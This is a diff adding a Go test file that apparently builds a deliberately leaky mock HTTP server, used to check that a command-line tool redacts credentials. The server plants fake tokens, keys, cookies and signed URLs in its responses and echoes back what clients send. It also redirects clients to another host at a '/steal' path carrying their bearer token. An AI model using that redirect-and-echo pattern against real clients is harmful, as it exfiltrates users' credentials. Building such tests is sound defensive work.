@@ -1,0 +1,160 @@
+package cli
+
+import (
+	"crypto/rand"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"hash/fnv"
+	"io"
+	"net/http"
+	"strings"
+	"sync"
+	"testing"
+)
+
+// random makes a value that stands nowhere by chance.
+func random(t testing.TB) string {
+	t.Helper()
+	bytes := make([]byte, 14)
+	if _, err := rand.Read(bytes); err != nil {
+		t.Fatal(err)
+	}
+	return "p1" + hex.EncodeToString(bytes)
+}
+
+// planted are secrets by their kind. Each has a random core, and the core is
+// what is looked for.
+type planted map[string]string
+
+// sentKinds are brought along by whoever calls; a server may repeat them.
+var sentKinds = []string{"token of a flag", "token of two scopes", "token of a file", "token of the environment", "token of the configuration",
+	"token of a template", "client secret of the environment", "password of an endpoint", "key of an endpoint"}
+
+// answeredKinds come from the server, each where the leak has it.
+var answeredKinds = []string{
+	"access token", "refresh token", "ID token", "client secret", "private key", "API key", "device code", "code verifier", "assertion",
+	"client assertion", "authorization code", "password", "cookie", "second cookie", "header token", "header key", "proxy authorization",
+	"basic authorization", "location token", "fragment token", "link key", "download URL", "signature of Cloud Storage", "old signature",
+	"signature of AWS", "signature of Azure", "upload session", "password in a URL", "token in HTML", "token in broken JSON", "token in XML",
+	"JSON in JSON", "hidden field", "escaped query", "token behind a scheme", "cookie in a message",
+}
+
+func plantSecrets(t testing.TB) planted {
+	secrets := planted{}
+	for _, kind := range append(append([]string{}, sentKinds...), answeredKinds...) {
+		secrets[kind] = random(t)
+	}
+	return secrets
+}
+
+// leak is a body that holds secrets of many kinds, in one of several forms.
+func (p planted) leak(form uint32, echo string) (contentType, body string) {
+	switch form % 5 {
+	case 0:
+		return "text/html", fmt.Sprintf(`<html><a href="/next?a=1&amp;access_token=%s">x</a><input type="hidden" name="refresh_token" value="%s"> %s</html>`,
+			p["token in HTML"], p["hidden field"], echo)
+	case 1:
+		return "application/json", fmt.Sprintf(`{"error": {"code": 400, "message": "%s"}, "refresh_token": "%s`, echo, p["token in broken JSON"])
+	case 2:
+		return "application/xml", fmt.Sprintf(`<answer><access_token>%s</access_token><message>%s</message></answer>`, p["token in XML"], echo)
+	case 3:
+		return "text/plain", fmt.Sprintf("you sent Authorization: %s\nCookie: SID=%s\nBearer %s is unknown; next=https%%3A%%2F%%2Fh%%3Faccess_token%%3D%s\ncode=4%%2F0%s&password=%s https://me:%s@h/",
+			echo, p["cookie in a message"], p["token behind a scheme"], p["escaped query"], p["authorization code"], p["password"], p["password in a URL"])
+	}
+	whole, err := json.Marshal(p.document(echo))
+	if err != nil {
+		return "text/plain", err.Error()
+	}
+	return "application/json; charset=UTF-8", string(whole)
+}
+
+// document is the leak as JSON. It looks like the state of a job, like a token
+// answer, and like an error.
+func (p planted) document(echo string) map[string]any {
+	return map[string]any{
+		"name": "archiveJobs/x/portabilityArchiveState", "state": "COMPLETE", "archiveJobId": "new",
+		"urls": []string{"https://storage.example/" + p["download URL"] + "/1.zip", "https://storage.example/1.zip?X-Goog-Signature=" + p["signature of Cloud Storage"]},
+		"more": []string{"https://s/o?GoogleAccessId=a@b&Expires=17&Signature=" + p["old signature"], "https://s/o?X-Amz-Signature=" + p["signature of AWS"],
+			"https://b/o?sv=1&sig=" + p["signature of Azure"], "https://s/upload?upload_id=" + p["upload session"]},
+		"access_token": "ya29." + p["access token"], "refreshToken": "1//0g" + p["refresh token"], "id_token": "eyJhbGciOi.eyJpc3Mi." + p["ID token"],
+		"client_secret": "GOCSPX-" + p["client secret"], "api_key": p["API key"], "device_code": p["device code"],
+		"service": map[string]any{"private_key": "-----BEGIN PRIVATE KEY-----\nMII" + p["private key"] + "\n-----END PRIVATE KEY-----\n"},
+		"sent":    "code_verifier=" + p["code verifier"] + "&assertion=" + p["assertion"] + "&client_assertion=" + p["client assertion"],
+		"nested":  `{"a": "{\"access_token\": \"` + p["JSON in JSON"] + `\"}"}`,
+		"error":   map[string]any{"code": 403, "status": "PERMISSION_DENIED", "message": "you sent " + echo, "details": []any{echo, "Basic " + basic(p["basic authorization"])}},
+	}
+}
+
+func basic(password string) string {
+	return base64.StdEncoding.EncodeToString([]byte("me:" + password))
+}
+
+// headers puts secrets into the headers of an answer.
+func (p planted) headers(header http.Header, echo string) {
+	header.Add("Set-Cookie", "SID="+p["cookie"]+"; HttpOnly; Path=/")
+	header.Add("Set-Cookie", "other="+p["second cookie"])
+	header.Set("X-Auth-Token", p["header token"])
+	header.Set("X-Goog-Api-Key", p["header key"])
+	header.Set("Proxy-Authorization", "Basic "+basic(p["proxy authorization"]))
+	header.Set("Link", "</next?key="+p["link key"]+`>; rel="next"`)
+	header.Set("WWW-Authenticate", `Bearer realm="x", echo="`+echo+`"`)
+}
+
+// leakyServer answers every request with secrets, also with those that it was
+// sent, and sends some on to another host.
+type leakyServer struct {
+	secrets   planted
+	otherHost string
+
+	mutex     sync.Mutex
+	redirects int
+	echoed    map[string]bool
+}
+
+func (s *leakyServer) ServeHTTP(writer http.ResponseWriter, request *http.Request) {
+	sent, _ := io.ReadAll(request.Body)
+	echo := request.Header.Get("Authorization")
+	if strings.Contains(string(sent), "client_secret") || strings.HasPrefix(request.URL.Path, "/token") {
+		echo += string(sent)
+	}
+	s.secrets.headers(writer.Header(), echo)
+	hash := fnv.New32a()
+	_, _ = hash.Write([]byte(request.Method + request.URL.Path + echo))
+	form := hash.Sum32() >> 3
+	s.note(echo)
+	if form%7 == 0 || strings.HasSuffix(request.URL.Path, "-redirect") {
+		s.redirect(writer, echo, form)
+		return
+	}
+	contentType, body := s.secrets.leak(form/7, echo)
+	writer.Header().Set("Content-Type", contentType)
+	writer.WriteHeader([]int{http.StatusOK, http.StatusBadRequest, http.StatusUnauthorized, http.StatusForbidden}[form/35%4])
+	_, _ = io.WriteString(writer, body)
+}
+
+// redirect sends a client to another host, with the token in the address.
+func (s *leakyServer) redirect(writer http.ResponseWriter, echo string, form uint32) {
+	_, token, _ := strings.Cut(echo, " ")
+	location := s.otherHost + "/steal?token=" + token + "&access_token=" + s.secrets["location token"]
+	if form%2 == 0 {
+		location = s.otherHost + "/steal#access_token=" + s.secrets["fragment token"] + "&sent=" + token
+	}
+	writer.Header().Set("Location", location)
+	writer.WriteHeader([]int{http.StatusMovedPermanently, http.StatusFound, http.StatusTemporaryRedirect, http.StatusPermanentRedirect}[form/7%4])
+	s.mutex.Lock()
+	defer s.mutex.Unlock()
+	s.redirects++
+}
+
+// note remembers which of the given secrets came along.
+func (s *leakyServer) note(echo string) {
+	s.mutex.Lock()
+	defer s.mutex.Unlock()
+	for kind, secret := range s.secrets {
+		if strings.Contains(echo, secret) {
+			s.echoed[kind] = true
+		}
+	}
+}
